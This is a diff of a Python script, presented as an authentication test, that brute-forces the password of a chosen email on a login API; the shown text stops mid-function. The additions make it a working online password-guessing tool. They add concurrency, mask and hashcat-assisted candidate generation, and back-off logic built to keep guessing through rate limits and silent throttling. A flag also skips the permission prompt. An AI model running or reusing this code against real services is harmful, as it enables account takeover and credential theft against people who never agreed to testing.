@@ -6,29 +6,165 @@ This script tests the security of the authentication endpoint against brute forc
 Only use this on systems you have permission to test.
 
 Usage:
-    python brute_force.py --email <target_email> [--url <api_url>] [--wordlist <path>]
+    python brute_force.py --email <target_email> [--url <api_url>] [--wordlist <path>] [--yes]
+
+    --yes skips the interactive permission prompt and is required for unattended runs (CI, profiling):
+    python -m cProfile -o bf.prof brute_force.py --yes --email <target_email>
 
 Example:
     python brute_force.py --email admin@example.com
     python brute_force.py --email user@test.com --url http://localhost:3000/api/auth
+    python brute_force.py --email user@test.com --concurrency 16
+    python brute_force.py --email user@test.com --mask '?l?l?l?l?d?d'
+    python brute_force.py --email user@test.com --workers 4 --delay 0
+    python brute_force.py --email user@test.com --wordlist merged.txt --dedup
+    python brute_force.py --email user@test.com --local-hash '$2b$10$...' --algo bcrypt
+    python brute_force.py --email user@test.com --wordlist rockyou-withcount.txt --sort-by frequency
 """
 
 import requests
+from requests.adapters import HTTPAdapter
+import httpx
+import asyncio
 import argparse
 import time
+import random
+import socket
+import ssl
+import os
 import sys
+import subprocess
+import tempfile
+import hashlib
+import multiprocessing as mp
+from functools import partial
 from pathlib import Path
 from colorama import Fore, Style, init
-from typing import Optional, Tuple
-import json
+from pybloom_live import ScalableBloomFilter
+from typing import Iterator, Optional, Tuple
+from itertools import islice
+import orjson
 
 init(autoreset=True)
 
+# The per-attempt progress line skips colorama's stream wrapper: raw ANSI written straight
+# to the real stdout, except on Windows where colorama still has to translate it. Like
+# colorama, no escape codes when the output is redirected to a file or CI log
+CYAN = '\x1b[36m'
+RESET = '\x1b[0m'
+PROGRESS_STREAM = sys.stdout if os.name == 'nt' else sys.__stdout__
+if PROGRESS_STREAM.isatty():
+    PROGRESS_TEMPLATE = CYAN + '[%d/%d] (%.1f%%)' + RESET + ' Testing: %-20s\r'
+else:
+    PROGRESS_TEMPLATE = '[%d/%d] (%.1f%%) Testing: %-20s\r'
+
+WORDLIST_BUFFER_SIZE = 1 << 20
+DEFAULT_RETRY_AFTER = 1.0
+MAX_429_RETRIES = 5
+PROGRESS_INTERVAL = 0.05
+DEDUP_ERROR_RATE = 1e-6
+LATENCY_ALPHA = 0.1
+CONGESTION_FACTOR = 3.0
+CONGESTION_RECOVERY = 20
+CONGESTION_STATUSES = (403, 503)
+# Answers that went through the password check; 429s and other errors return before bcrypt
+LATENCY_STATUSES = (200, 400, 401)
+HASHCAT_MODES = {"bcrypt": "3200", "scrypt": "8900", "argon2": "34000"}
+PCFG_SCORER = 'password_scorer.py'
+BACKOFF_MIN = 0.05
+BACKOFF_CAP = 10.0
+BACKOFF_JITTER = 0.05
+STATE_FILE = Path(__file__).with_name('.brute_force_state.json')
+# Small JSON POSTs must not wait on Nagle/delayed-ACK; keep idle pooled sockets alive
+SOCKET_OPTIONS = [
+    (socket.IPPROTO_TCP, socket.TCP_NODELAY, 1),
+    (socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1),
+]
+CONNECTION_ERRORS = (requests.exceptions.ConnectionError, httpx.ConnectError)
+
+# Shared with pool processes through the initializer, set once any worker finds the password or is blocked
+_stop_flag = None
+
+
+class RateLimitExceeded(Exception):
+    """Raised when the server answers a login attempt with 429 Too Many Requests."""
+
+
+def count_passwords(path: Path) -> int:
+    """
+    Count the passwords BruteForceTest.load_wordlist will stream from a file.
+
+    Args:
+        path: File to count
+
+    Returns:
+        Number of valid UTF-8 lines holding something other than whitespace
+    """
+    passwords = 0
+    with open(path, 'rb', buffering=WORDLIST_BUFFER_SIZE) as f:
+        for line in f:
+            try:
+                if line.decode('utf-8').rstrip():
+                    passwords += 1
+            except UnicodeDecodeError:
+                pass
+    return passwords
+
+
+def build_ssl_context(alpn_protocols: list) -> ssl.SSLContext:
+    """
+    Build the TLS context shared by every connection of one HTTP client.
+
+    The context is built once per client instead of once per connection, and TLS 1.3 is
+    negotiated whenever the server offers it. The system CA store is loaded here; for the
+    requests client, TunedHTTPAdapter.cert_verify loads any extra bundle into it once.
+
+    Args:
+        alpn_protocols: ALPN protocols the client can speak
+
+    Returns:
+        Verifying client SSL context
+    """
+    context = ssl.create_default_context()
+    context.minimum_version = ssl.TLSVersion.TLSv1_2
+    context.set_alpn_protocols(alpn_protocols)
+    return context
+
+
+class TunedHTTPAdapter(HTTPAdapter):
+    """HTTPAdapter whose pooled sockets are opened with SOCKET_OPTIONS and one shared TLS context."""
+
+    def __init__(self, *args, **kwargs):
+        # urllib3 speaks HTTP/1.1 only; the httpx client gets its own context because ALPN is set per context
+        self.ssl_context = build_ssl_context(['http/1.1'])
+        self._loaded_ca = set()
+        super().__init__(*args, **kwargs)
+
+    def init_poolmanager(self, *args, **kwargs):
+        kwargs['socket_options'] = SOCKET_OPTIONS
+        kwargs['ssl_context'] = self.ssl_context
+        super().init_poolmanager(*args, **kwargs)
+
+    def cert_verify(self, conn, url, verify, cert):
+        # requests points every pool at its CA bundle, which urllib3 then loads into the
+        # context on each new connection; load it into the shared context once instead
+        super().cert_verify(conn, url, verify, cert)
+        for attr, kwarg in (('ca_certs', 'cafile'), ('ca_cert_dir', 'capath')):
+            location = getattr(conn, attr, None)
+            if location:
+                if location not in self._loaded_ca:
+                    self.ssl_context.load_verify_locations(**{kwarg: location})
+                    self._loaded_ca.add(location)
+                setattr(conn, attr, None)
+
 
 class BruteForceTest:
     """Class to handle brute force testing of authentication endpoints."""
 
-    def __init__(self, url: str, email: str, wordlist_path: str):
+    def __init__(self, url: str, email: str, wordlist_path: str, mask: Optional[str] = None,
+                 mask_start: Optional[str] = None, mask_end: Optional[str] = None, dedup: Optional[str] = None,
+                 local_hash: Optional[str] = None, hash_algo: str = "bcrypt", sort_by: Optional[str] = None,
+                 pcfg_scorer: str = PCFG_SCORER):
         """
         Initialize the brute force tester.
 
@@ -36,13 +172,61 @@ class BruteForceTest:
             url: Target authentication endpoint URL
             email: Email address to test
             wordlist_path: Path to password wordlist file
+            mask: maskprocessor mask to generate candidates from instead of the wordlist
+            mask_start: First candidate of the mask keyspace to test
+            mask_end: Last candidate of the mask keyspace to test
+            dedup: Skip repeated candidates, compared 'exact' or 'lower' (stripped and lowercased, lossy)
+            local_hash: Known hash of the target password, to filter candidates offline with hashcat
+            hash_algo: Hash scheme of local_hash ('bcrypt', 'scrypt' or 'argon2')
+            sort_by: Test the wordlist most-probable first, by 'frequency' counts or 'pcfg' score
+            pcfg_scorer: Path to pcfg_cracker's password_scorer.py, used with sort_by='pcfg'
         """
         self.url = url
         self.email = email
         self.wordlist_path = Path(wordlist_path)
+        self.mask = mask
+        self.mask_start = mask_start
+        self.mask_end = mask_end
+        self.dedup = dedup
+        self.duplicates = 0
+        self.local_hash = local_hash
+        self.hash_algo = hash_algo
+        self._prefilter_dir = None
+        self.sort_by = sort_by
+        self.pcfg_scorer = pcfg_scorer
         self.attempts = 0
         self.start_time = None
         self.successful_password = None
+        self.throttled = 0
+        self.total_passwords = 0
+        self._next_allowed_ts = 0.0
+        self.preempt_quota = True
+        self.quota_waits = 0
+        self.undecodable = 0
+        self._delay = 0.0
+        self._base = 0.0
+        self._backoff = 0.0
+        self._ewma_rtt = None
+        self._baseline_rtt = None
+        self._good_responses = 0
+        self._concurrency = 1
+        self._max_concurrency = 1
+        self.congested = False
+        self.congestion_events = 0
+        self.stop_flag = None
+        self.show_progress = True
+        self._last_print = 0.0
+
+        # Request body prefix `{"email":"..."` serialized once, completed per password in build_body
+        self._headers = {"Content-Type": "application/json"}
+        self._email_bytes = orjson.dumps({"email": self.email})[:-1]
+
+        # Single pooled session so keep-alive reuses one socket for the whole wordlist
+        self.session = requests.Session()
+        adapter = TunedHTTPAdapter(pool_connections=2, pool_maxsize=64, max_retries=0, pool_block=True)
+        self.session.mount('http://', adapter)
+        self.session.mount('https://', adapter)
+        self.session.headers.update(self._headers)
 
     def print_banner(self):
         """Display test information banner."""
@@ -51,23 +235,25 @@ class BruteForceTest:
         print(f"{Fore.CYAN}{'='*70}{Style.RESET_ALL}")
         print(f"{Fore.YELLOW}Target URL:{Style.RESET_ALL}    {self.url}")
         print(f"{Fore.YELLOW}Target Email:{Style.RESET_ALL}  {self.email}")
-        print(f"{Fore.YELLOW}Wordlist:{Style.RESET_ALL}      {self.wordlist_path}")
+        if self.mask:
+            print(f"{Fore.YELLOW}Mask:{Style.RESET_ALL}          {self.mask}")
+        else:
+            print(f"{Fore.YELLOW}Wordlist:{Style.RESET_ALL}      {self.wordlist_path}")
         print(f"{Fore.CYAN}{'='*70}{Style.RESET_ALL}\n")
         print(f"{Fore.RED}⚠️  WARNING: Only use this tool on systems you have permission to test!")
         print(f"{Fore.RED}⚠️  Unauthorized access attempts are illegal!{Style.RESET_ALL}\n")
 
-    def load_wordlist(self) -> list:
+    def count_wordlist(self) -> int:
         """
-        Load passwords from wordlist file.
+        Count passwords in the wordlist file so progress can be reported while streaming it.
 
         Returns:
-            List of passwords from the wordlist
+            Number of non-blank lines in the wordlist
         """
         try:
-            with open(self.wordlist_path, 'r', encoding='utf-8') as f:
-                passwords = [line.strip() for line in f if line.strip()]
-            print(f"{Fore.GREEN}✓{Style.RESET_ALL} Loaded {len(passwords)} passwords from wordlist\n")
-            return passwords
+            self.total_passwords = count_passwords(self.wordlist_path)
+            print(f"{Fore.GREEN}✓{Style.RESET_ALL} Loaded {self.total_passwords} passwords from wordlist\n")
+            return self.total_passwords
         except FileNotFoundError:
             print(f"{Fore.RED}✗ Error: Wordlist file not found at {self.wordlist_path}{Style.RESET_ALL}")
             sys.exit(1)
@@ -75,6 +261,252 @@ class BruteForceTest:
             print(f"{Fore.RED}✗ Error loading wordlist: {str(e)}{Style.RESET_ALL}")
             sys.exit(1)
 
+    def load_wordlist(self) -> Iterator[str]:
+        """
+        Stream passwords from the wordlist file, skipping blank lines.
+
+        Lines that are not valid UTF-8 are skipped and counted in `undecodable`: the API
+        only accepts JSON strings, so such a password could not be submitted anyway.
+
+        Yields:
+            Passwords from the wordlist
+        """
+        with open(self.wordlist_path, 'rb', buffering=WORDLIST_BUFFER_SIZE) as f:
+            for line in f:
+                try:
+                    password = line.decode('utf-8').rstrip()
+                except UnicodeDecodeError:
+                    self.undecodable += 1
+                    continue
+                if password:
+                    yield password
+
+    def sort_wordlist(self):
+        """
+        Reorder the wordlist most-probable first before the test starts.
+
+        'frequency' reads `<count> <password>` lines (uniq -c / SecLists *-withcount format);
+        'pcfg' scores each password with pcfg_cracker's password_scorer.py. The sorted copy
+        is written next to the wordlist, or under the temp directory when that location is
+        not writable, and reused while it is newer than the source.
+        """
+        if self.mask:
+            print(f"{Fore.YELLOW}⚠ --sort-by only applies to wordlists, ignored with --mask{Style.RESET_ALL}\n")
+            return
+
+        sorted_paths = self.sorted_wordlist_paths()
+        try:
+            source_mtime = self.wordlist_path.stat().st_mtime
+        except FileNotFoundError:
+            print(f"{Fore.RED}✗ Error: Wordlist file not found at {self.wordlist_path}{Style.RESET_ALL}")
+            sys.exit(1)
+        for sorted_path in sorted_paths:
+            if sorted_path.exists() and sorted_path.stat().st_mtime >= source_mtime:
+                print(f"{Fore.GREEN}✓{Style.RESET_ALL} Reusing {self.sort_by}-sorted wordlist {sorted_path}\n")
+                self.wordlist_path = sorted_path
+                return
+
+        print(f"{Fore.CYAN}Sorting wordlist by {self.sort_by}...{Style.RESET_ALL}")
+        scored = self.score_pcfg() if self.sort_by == 'pcfg' else self.score_frequency()
+        scored.sort(key=lambda entry: entry[0], reverse=True)
+
+        for sorted_path in sorted_paths:
+            # Written aside and renamed into place, so an interrupted write never leaves a
+            # truncated copy that the freshness check above would pick up next run
+            partial_path = sorted_path.with_name(f"{sorted_path.name}.{os.getpid()}.tmp")
+            try:
+                sorted_path.parent.mkdir(parents=True, exist_ok=True)
+                with open(partial_path, 'w', encoding='utf-8', buffering=WORDLIST_BUFFER_SIZE) as f:
+                    for _, password in scored:
+                        f.write(password + '\n')
+                os.replace(partial_path, sorted_path)
+            except OSError as e:
+                error = e
+                partial_path.unlink(missing_ok=True)
+                continue
+            except BaseException:
+                partial_path.unlink(missing_ok=True)
+                raise
+            self.wordlist_path = sorted_path
+            print(f"{Fore.GREEN}✓{Style.RESET_ALL} Wrote sorted wordlist to {sorted_path}\n")
+            return
+
+        print(f"{Fore.RED}✗ Error writing sorted wordlist: {str(error)}{Style.RESET_ALL}")
+        sys.exit(1)
+
+    def sorted_wordlist_paths(self) -> list:
+        """
+        Locations for the sorted copy of the wordlist, in order of preference.
+
+        Returns:
+            Path next to the wordlist, then a per-wordlist path under the temp directory
+        """
+        name = f"{self.wordlist_path.stem}.sorted-{self.sort_by}.txt"
+        digest = hashlib.sha1(str(self.wordlist_path.resolve()).encode()).hexdigest()[:12]
+        return [
+            self.wordlist_path.with_name(name),
+            Path(tempfile.gettempdir()) / 'brute_force' / f"{digest}-{name}",
+        ]
+
+    def score_frequency(self) -> list:
+        """
+        Read `<count> <password>` lines; lines without a count score 0 and keep their order.
+
+        Returns:
+            List of (count, password) tuples
+        """
+        scored = []
+        for line in self.load_wordlist():
+            count, _, password = line.lstrip().partition(' ')
+            if count.isdigit() and password:
+                scored.append((int(count), password))
+            else:
+                scored.append((0, line))
+        return scored
+
+    def score_pcfg(self) -> list:
+        """
+        Score the wordlist with pcfg_cracker's password_scorer.py.
+
+        Returns:
+            List of (probability, password) tuples
+        """
+        with tempfile.TemporaryDirectory(prefix='brute_force_') as tmp:
+            scores_path = Path(tmp) / 'scores.txt'
+            command = [sys.executable, self.pcfg_scorer, '-i', str(self.wordlist_path), '-o', str(scores_path)]
+            try:
+                subprocess.run(command, check=True)
+            except (OSError, subprocess.CalledProcessError) as e:
+                print(f"{Fore.RED}✗ Error running pcfg scorer {self.pcfg_scorer}: {str(e)}{Style.RESET_ALL}")
+                sys.exit(1)
+
+            # Tab-separated: password, classification, probability, OMEN level
+            scored = []
+            with open(scores_path, 'r', encoding='utf-8', errors='replace') as f:
+                for line in f:
+                    fields = line.rstrip('\n').split('\t')
+                    if len(fields) < 3 or not fields[0]:
+                        continue
+                    try:
+                        scored.append((float(fields[2]), fields[0]))
+                    except ValueError:
+                        scored.append((0.0, fields[0]))
+            return scored
+
+    def prefilter_local_hash(self):
+        """
+        Crack the known hash offline with hashcat and keep only the matching candidates.
+
+        The wordlist (or mask) is run through hashcat, and the plaintexts it recovers
+        become the wordlist for the network test, so only they are sent to the server.
+        """
+        self._prefilter_dir = tempfile.TemporaryDirectory(prefix='brute_force_')
+        hash_file = Path(self._prefilter_dir.name) / 'target.hash'
+        survivors_path = Path(self._prefilter_dir.name) / 'survivors.txt'
+        hash_file.write_text(self.local_hash + '\n', encoding='utf-8')
+
+        if self.mask:
+            attack = ['-a', '3', str(hash_file), self.mask]
+        else:
+            attack = ['-a', '0', str(hash_file), str(self.wordlist_path)]
+        command = ['hashcat', '-m', HASHCAT_MODES[self.hash_algo], *attack,
+                   '--outfile', str(survivors_path), '--outfile-format', '2',
+                   '--potfile-disable', '--quiet', '-O', '-w', '3']
+
+        print(f"{Fore.CYAN}Pre-filtering candidates locally with hashcat ({self.hash_algo})...{Style.RESET_ALL}")
+        try:
+            result = subprocess.run(command)
+        except FileNotFoundError:
+            print(f"{Fore.RED}✗ Error: hashcat not found in PATH{Style.RESET_ALL}")
+            sys.exit(1)
+        # hashcat exits 0 when cracked and 1 when the keyspace is exhausted
+        if result.returncode not in (0, 1):
+            print(f"{Fore.RED}✗ Error: hashcat failed with exit code {result.returncode}{Style.RESET_ALL}")
+            sys.exit(1)
+
+        survivors_path.touch()
+        self.wordlist_path = survivors_path
+        self.mask = None
+        print(f"{Fore.GREEN}✓{Style.RESET_ALL} {count_passwords(survivors_path)} candidates survived the local pre-filter\n")
+
+    def mask_command(self) -> list:
+        """Build the maskprocessor command line for the configured mask and keyspace bounds."""
+        command = ['mp64']
+        if self.mask_start:
+            command += ['--start-at', self.mask_start]
+        if self.mask_end:
+            command += ['--stop-at', self.mask_end]
+        return command + [self.mask]
+
+    def count_mask(self) -> int:
+        """
+        Ask maskprocessor for the size of the mask keyspace.
+
+        Returns:
+            Number of candidates in the full mask (an upper bound when start/end are set)
+        """
+        try:
+            result = subprocess.run(['mp64', '--combinations', self.mask], capture_output=True, check=True)
+            self.total_passwords = int(result.stdout.strip())
+            print(f"{Fore.GREEN}✓{Style.RESET_ALL} Mask covers {self.total_passwords} candidates\n")
+            return self.total_passwords
+        except FileNotFoundError:
+            print(f"{Fore.RED}✗ Error: mp64 (maskprocessor) not found in PATH{Style.RESET_ALL}")
+            sys.exit(1)
+        except (subprocess.CalledProcessError, ValueError) as e:
+            print(f"{Fore.RED}✗ Error evaluating mask: {str(e)}{Style.RESET_ALL}")
+            sys.exit(1)
+
+    def load_mask(self) -> Iterator[str]:
+        """
+        Stream candidates generated by maskprocessor.
+
+        Yields:
+            Passwords produced by `mp64` for the configured mask
+        """
+        proc = subprocess.Popen(self.mask_command(), stdout=subprocess.PIPE, bufsize=WORDLIST_BUFFER_SIZE)
+        try:
+            for line in proc.stdout:
+                yield line.rstrip(b'\n').decode('utf-8')
+        finally:
+            proc.stdout.close()
+            proc.terminate()
+            proc.wait()
+
+    def build_body(self, password: str) -> bytes:
+        """Serialize the login payload for `password` onto the pre-built email prefix."""
+        return self._email_bytes + b',"password":' + orjson.dumps(password) + b'}'
+
+    def deduplicate(self, passwords: Iterator[str]) -> Iterator[str]:
+        """
+        Drop candidates already seen, using a scalable Bloom filter to keep memory bounded.
+
+        A false positive (rate DEDUP_ERROR_RATE) skips a candidate that was never tested.
+        'lower' also merges case and whitespace variants, which the server hashes as distinct
+        passwords, so it trades coverage for fewer requests.
+
+        Args:
+            passwords: Candidate stream
+
+        Yields:
+            First occurrence of each candidate, after normalization
+        """
+        seen = ScalableBloomFilter(error_rate=DEDUP_ERROR_RATE)
+        lower = self.dedup == 'lower'
+        try:
+            for password in passwords:
+                if seen.add(password.strip().lower() if lower else password):
+                    self.duplicates += 1
+                    continue
+                yield password
+        finally:
+            passwords.close()
+
+    def candidates(self) -> Iterator[str]:
+        """Stream the candidates to test: the mask or wordlist, deduplicated if requested."""
+        passwords = self.load_mask() if self.mask else self.load_wordlist()
+        return self.deduplicate(passwords) if self.dedup else passwords
+
     def attempt_login(self, password: str) -> Tuple[bool, Optional[dict]]:
         """
         Attempt to login with given password.
@@ -84,96 +516,546 @@ class BruteForceTest:
 
         Returns:
             Tuple of (success, response_data)
+
+        Raises:
+            RateLimitExceeded: If the server answered 429
+            requests.exceptions.ConnectionError: If the server cannot be reached
         """
         self.attempts += 1
 
-        payload = {
-            "email": self.email,
-            "password": password
-        }
+        try:
+            response = self.session.post(
+                self.url,
+                data=self.build_body(password),
+                timeout=10
+            )
+            self.update_rate_limit(response.status_code, response.headers)
+            self.update_congestion(response.status_code, response.elapsed.total_seconds())
 
-        headers = {
-            "Content-Type": "application/json"
-        }
+            if response.status_code == 200:
+                try:
+                    data = orjson.loads(response.content)
+                    if 'token' in data:
+                        return True, data
+                except orjson.JSONDecodeError:
+                    pass
+                return False, None
+
+            # Only a 200 carries a token: skip parsing the body (requests has already read it,
+            # stream=False) and release the connection back to the pool
+            response.close()
+            if response.status_code == 429:
+                raise RateLimitExceeded()
+            return False, None
+
+        except (RateLimitExceeded, requests.exceptions.ConnectionError):
+            # Propagated to run_test, which backs off or aborts the whole run
+            raise
+        except requests.exceptions.Timeout:
+            print(f"\n{Fore.YELLOW}⚠ Request timeout for password: {password}{Style.RESET_ALL}")
+            return False, None
+        except Exception as e:
+            print(f"\n{Fore.RED}✗ Unexpected error: {str(e)}{Style.RESET_ALL}")
+            return False, None
+
+    def update_rate_limit(self, status: int, headers) -> None:
+        """
+        Adapt the inter-attempt back-off and record when the server allows the next attempt.
+
+        The back-off doubles (plus jitter) on 429 and halves back towards the base delay
+        otherwise. Reads `Retry-After` on 429, and `RateLimit-Remaining`/`RateLimit-Reset`
+        (or `X-Rate-Limit-Remaining`/`X-Rate-Limit-Window`) once the quota is spent, unless
+        `preempt_quota` is off so the next attempt runs into the limiter's 429.
+
+        Args:
+            status: HTTP status code of the response
+            headers: Case-insensitive response headers
+        """
+        if status == 429:
+            self._backoff = min(BACKOFF_CAP, max(self._backoff, BACKOFF_MIN) * 2) + random.uniform(0, BACKOFF_JITTER)
+        else:
+            self._backoff = max(self._base, self._backoff / 2)
+
+        wait = None
+        try:
+            if status == 429:
+                wait = float(headers.get('Retry-After', DEFAULT_RETRY_AFTER))
+            elif self.preempt_quota:
+                remaining = headers.get('RateLimit-Remaining', headers.get('X-Rate-Limit-Remaining'))
+                window = headers.get('RateLimit-Reset', headers.get('X-Rate-Limit-Window'))
+                if remaining is not None and window is not None and int(remaining) <= 0:
+                    wait = float(window)
+        except ValueError:
+            # Retry-After given as an HTTP date, or malformed headers
+            wait = DEFAULT_RETRY_AFTER if status == 429 else None
+
+        if wait is not None:
+            now = time.monotonic()
+            if status != 429 and now >= self._next_allowed_ts:
+                self.quota_waits += 1
+            self._next_allowed_ts = max(self._next_allowed_ts, now + wait)
+
+    def update_congestion(self, status: int, rtt: float) -> None:
+        """
+        Infer server-side throttling from latency before any 429 shows up (AIMD).
+
+        Keeps an EWMA of response time against the best EWMA seen so far. When it
+        exceeds CONGESTION_FACTOR times that baseline, or the server answers 403/503,
+        the send rate is halved: concurrency in async mode, doubled delay in serial mode.
+        After CONGESTION_RECOVERY good responses the rate steps back up. Only
+        LATENCY_STATUSES are sampled: a 429 is answered by the limiter in about a
+        millisecond and would drag the baseline down for the rest of the run.
+
+        Args:
+            status: HTTP status code of the response
+            rtt: Time until the response headers arrived, in seconds
+        """
+        if status in LATENCY_STATUSES:
+            if self._ewma_rtt is None:
+                self._ewma_rtt = rtt
+            else:
+                self._ewma_rtt = (1 - LATENCY_ALPHA) * self._ewma_rtt + LATENCY_ALPHA * rtt
+            if self._baseline_rtt is None or self._ewma_rtt < self._baseline_rtt:
+                self._baseline_rtt = self._ewma_rtt
+        elif status not in CONGESTION_STATUSES:
+            # 429s are handled by update_rate_limit, other errors tell nothing about load
+            return
+
+        slow = status in CONGESTION_STATUSES or self._ewma_rtt > CONGESTION_FACTOR * self._baseline_rtt
+        if not slow:
+            self._good_responses += 1
+            if self._good_responses >= CONGESTION_RECOVERY:
+                self._good_responses = 0
+                self.congested = False
+                if self._max_concurrency > 1:
+                    self._concurrency = min(self._max_concurrency, self._concurrency + 1)
+                else:
+                    self._base = max(self._delay, self._base / 2)
+            return
+
+        self._good_responses = 0
+        if self.congested:
+            return
+        self.congested = True
+        self.congestion_events += 1
+
+        if self._max_concurrency > 1:
+            self._concurrency = max(1, self._concurrency // 2)
+            action = f"concurrency lowered to {self._concurrency}"
+        else:
+            self._base = max(BACKOFF_MIN, self._base * 2)
+            self._backoff = max(self._backoff, self._base)
+            action = f"delay raised to {self._base:.2f}s"
+        latency = (f"Latency {self._ewma_rtt * 1000:.0f}ms vs {self._baseline_rtt * 1000:.0f}ms baseline"
+                   if self._ewma_rtt is not None else "No latency sample yet")
+        print(f"\n{Fore.YELLOW}⚠ {latency} (status {status}): server likely rate-limited without returning 429,"
+              f" {action}{Style.RESET_ALL}")
+
+    def configure_delay(self, delay: float, backoff: float) -> None:
+        """
+        Set the base delay and the back-off to start from.
+
+        Args:
+            delay: Configured base delay in seconds, the floor of the back-off
+            backoff: Back-off carried over from a previous run
+        """
+        self._delay = self._base = delay
+        self._backoff = max(delay, backoff)
+
+    def next_delay(self) -> float:
+        """Seconds to wait before the next attempt: the jittered back-off, or longer if the server asked."""
+        return max(self._backoff + random.random() * self._base, self._next_allowed_ts - time.monotonic())
+
+    def pause(self, delay: Optional[float] = None) -> None:
+        """Sleep until the next attempt is due, or for `delay` seconds if given."""
+        time.sleep(self.next_delay() if delay is None else delay)
+
+    def load_state(self) -> float:
+        """
+        Load the back-off reached by the previous run against this URL.
+
+        Returns:
+            Saved back-off in seconds, or 0 if there is none
+        """
+        try:
+            return float(orjson.loads(STATE_FILE.read_bytes()).get(self.url, 0.0))
+        except (OSError, ValueError, AttributeError):
+            return 0.0
 
+    def save_state(self) -> None:
+        """Persist the current back-off so the next run starts near the steady state."""
+        try:
+            state = orjson.loads(STATE_FILE.read_bytes())
+        except (OSError, ValueError):
+            state = {}
+        if not isinstance(state, dict):
+            state = {}
+        state[self.url] = self._backoff
         try:
-            response = requests.post(
+            STATE_FILE.write_bytes(orjson.dumps(state))
+        except OSError:
+            pass
+
+    def print_throttled(self) -> float:
+        """
+        Report a 429 that the test is going to wait out.
+
+        Returns:
+            The reported wait from next_delay(), for the caller to sleep
+        """
+        wait = self.next_delay()
+        print(f"\n{Fore.YELLOW}⚠ Rate limited (429), backing off {wait:.1f}s{Style.RESET_ALL}")
+        return wait
+
+    def attempt_with_backoff(self, password: str, stop_on_429: bool) -> Tuple[bool, Optional[dict]]:
+        """
+        Attempt to login, waiting out 429 responses and retrying the same password.
+
+        Args:
+            password: Password to test
+            stop_on_429: Re-raise the first 429 instead of backing off
+
+        Returns:
+            Tuple of (success, response_data)
+
+        Raises:
+            RateLimitExceeded: If stop_on_429 is set, or the password got more than MAX_429_RETRIES 429s in a row
+        """
+        retries = 0
+        while True:
+            try:
+                return self.attempt_login(password)
+            except RateLimitExceeded:
+                self.throttled += 1
+                retries += 1
+                if stop_on_429 or retries > MAX_429_RETRIES:
+                    raise
+                self.pause(self.print_throttled())
+
+    async def attempt_login_async(self, client: httpx.AsyncClient, password: str) -> Tuple[bool, Optional[dict]]:
+        """
+        Attempt to login with given password over a shared async client.
+
+        Args:
+            client: Shared httpx client, multiplexing attempts over HTTP/2 when available
+            password: Password to test
+
+        Returns:
+            Tuple of (success, response_data)
+
+        Raises:
+            RateLimitExceeded: If the server answered 429
+        """
+        self.attempts += 1
+
+        try:
+            response = await client.post(
                 self.url,
-                json=payload,
-                headers=headers,
+                content=self.build_body(password),
                 timeout=10
             )
-
+            self.update_rate_limit(response.status_code, response.headers)
+            self.update_congestion(response.status_code, response.elapsed.total_seconds())
             if response.status_code == 429:
-                print(f"\n{Fore.GREEN}🛡️  Security Mechanism Triggered: Rate Limit Exceeded (429){Style.RESET_ALL}")
-                print(f"{Fore.GREEN}✓ The application successfully detected and blocked the brute force attack.{Style.RESET_ALL}")
-                sys.exit(0)
+                raise RateLimitExceeded()
 
             if response.status_code == 200:
                 try:
-                    data = response.json()
+                    data = orjson.loads(response.content)
                     if 'token' in data:
                         return True, data
-                except json.JSONDecodeError:
+                except orjson.JSONDecodeError:
                     pass
 
             return False, None
 
-        except requests.exceptions.ConnectionError:
-            print(f"\n{Fore.RED}✗ Connection Error: Cannot connect to {self.url}")
-            print(f"{Fore.YELLOW}  Make sure the server is running!{Style.RESET_ALL}\n")
-            sys.exit(1)
-        except requests.exceptions.Timeout:
+        except (RateLimitExceeded, httpx.ConnectError):
+            # Propagated to run_test, which backs off or aborts the whole run
+            raise
+        except httpx.TimeoutException:
             print(f"\n{Fore.YELLOW}⚠ Request timeout for password: {password}{Style.RESET_ALL}")
             return False, None
         except Exception as e:
             print(f"\n{Fore.RED}✗ Unexpected error: {str(e)}{Style.RESET_ALL}")
             return False, None
 
-    def run_test(self, delay: float = 0.1):
+    async def run_async(self, passwords: Iterator[str], concurrency: int,
+                        stop_on_429: bool) -> Tuple[Optional[str], Optional[dict]]:
         """
-        Run the brute force test.
+        Test passwords concurrently, at most `concurrency` requests in flight.
+
+        A sliding window of `concurrency` tasks is refilled from the iterator as each one
+        completes, so memory stays flat on large wordlists and a slow request never holds
+        the other slots idle.
+        All attempts share one httpx client: over HTTPS with an h2-capable server they are
+        multiplexed on a single connection, otherwise it falls back to pooled HTTP/1.1.
 
         Args:
-            delay: Delay in seconds between attempts
+            passwords: Passwords to test
+            concurrency: Maximum number of in-flight requests
+            stop_on_429: Stop at the first 429 instead of backing off
+
+        Returns:
+            Tuple of (password, response_data) on success, (None, None) otherwise
+
+        Raises:
+            RateLimitExceeded: If stop_on_429 is set and the server answered 429, or a password
+                got more than MAX_429_RETRIES 429s in a row (the account looks locked out)
         """
-        self.print_banner()
+        index = 0
+        self._concurrency = self._max_concurrency = concurrency
+        in_flight = 0
+        slot_freed = asyncio.Condition()
+        transport = httpx.AsyncHTTPTransport(
+            verify=build_ssl_context(['h2', 'http/1.1']),
+            http2=True,
+            limits=httpx.Limits(max_connections=concurrency, max_keepalive_connections=concurrency),
+            socket_options=SOCKET_OPTIONS
+        )
 
-        confirm = input(f"{Fore.YELLOW}Do you have permission to test this system? (yes/no): {Style.RESET_ALL}")
-        if confirm.lower() != 'yes':
-            print(f"{Fore.RED}Test aborted.{Style.RESET_ALL}")
-            sys.exit(0)
+        async with httpx.AsyncClient(transport=transport, headers=self._headers) as client:
+            async def guarded(password: str):
+                nonlocal in_flight
+                retries = 0
+                while True:
+                    wait = self._next_allowed_ts - time.monotonic()
+                    if wait > 0:
+                        await asyncio.sleep(wait)
+                    # The window caps at --concurrency, update_congestion may lower the live limit
+                    async with slot_freed:
+                        await slot_freed.wait_for(lambda: in_flight < self._concurrency)
+                        in_flight += 1
+                    try:
+                        success, response_data = await self.attempt_login_async(client, password)
+                        break
+                    except RateLimitExceeded:
+                        self.throttled += 1
+                        retries += 1
+                        if stop_on_429 or retries > MAX_429_RETRIES:
+                            raise
+                        retry_delay = self.print_throttled()
+                    finally:
+                        async with slot_freed:
+                            in_flight -= 1
+                            slot_freed.notify_all()
+                    # Same doubled back-off as the serial path, without holding an in-flight slot
+                    await asyncio.sleep(retry_delay)
+                await asyncio.sleep(self._backoff + random.random() * self._base)
+                return password, success, response_data
 
-        passwords = self.load_wordlist()
-        total_passwords = len(passwords)
+            pending = {asyncio.ensure_future(guarded(password)) for password in islice(passwords, concurrency)}
+            done = set()
+            try:
+                while pending:
